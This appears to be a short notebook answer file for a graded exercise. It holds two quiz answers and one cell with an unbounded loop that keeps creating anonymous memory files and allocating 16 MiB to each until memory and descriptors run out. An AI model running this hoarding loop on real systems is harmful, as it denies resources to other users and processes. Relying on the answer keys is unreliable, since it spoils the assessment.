# %%
q02_answer = "c"

# %%
import os

descriptors = []
while True:
    descriptors.append(os.memfd_create('hoard'))
    os.posix_fallocate(descriptors[-1], 0, 2**24)

# %%
q09_answer = "d"
